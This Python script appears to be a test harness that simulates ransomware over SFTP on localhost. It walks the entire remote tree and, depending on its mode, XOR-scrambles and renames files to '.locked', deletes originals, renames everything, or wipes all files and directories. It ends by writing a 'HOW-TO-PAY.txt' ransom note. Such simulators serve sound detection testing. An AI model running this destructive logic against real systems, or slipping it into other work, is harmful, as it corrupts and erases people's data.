"""Does to a tree over SFTP what ransomware does. Prints a word for each kind of step that was taken."""
import stat
import sys

import paramiko

port, user, key_file, how = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
transport = paramiko.Transport(("127.0.0.1", port))
transport.connect(username=user, pkey=paramiko.Ed25519Key.from_private_key_file(key_file))
sftp = paramiko.SFTPClient.from_transport(transport)


def walk(directory):
    for entry in sftp.listdir_attr(directory):
        path = directory.rstrip("/") + "/" + entry.filename
        if stat.S_ISDIR(entry.st_mode):
            yield from walk(path)
            yield path, True
        else:
            yield path, False


def encrypted(content):
    return bytes(byte ^ 0x5A for byte in content) + b"locked"


taken = set()


def step(kind):
    if kind not in taken:
        taken.add(kind)
        print(kind, flush=True)


targets = list(walk("/"))
for path, is_directory in targets:
    if how == "in-place" and not is_directory:
        with sftp.open(path, "rb") as remote:
            content = remote.read()
        with sftp.open(path, "r+b") as remote:
            remote.set_pipelined(True)
            remote.write(encrypted(content))
        step("overwrite")
        sftp.rename(path, path + ".locked")
        step("rename")
    elif how == "new-files" and not is_directory:
        with sftp.open(path, "rb") as remote:
            content = remote.read()
        with sftp.open(path + ".locked", "wb") as remote:
            remote.set_pipelined(True)
            remote.write(encrypted(content))
        sftp.remove(path)
        step("remove")
    elif how == "rename":
        sftp.posix_rename(path, path + ".locked")
        step("rename")
    elif how == "remove" and not is_directory:
        sftp.remove(path)
        step("remove")
    elif how == "wipe":
        sftp.rmdir(path) if is_directory else sftp.remove(path)
        step("remove")
if how == "in-place":
    # Directories too, the innermost first.
    for path, is_directory in targets:
        if is_directory:
            sftp.rename(path, path + ".dir")
with sftp.open("/HOW-TO-PAY.txt", "wb") as remote:
    remote.write(b"all your files are belong to us")
transport.close()
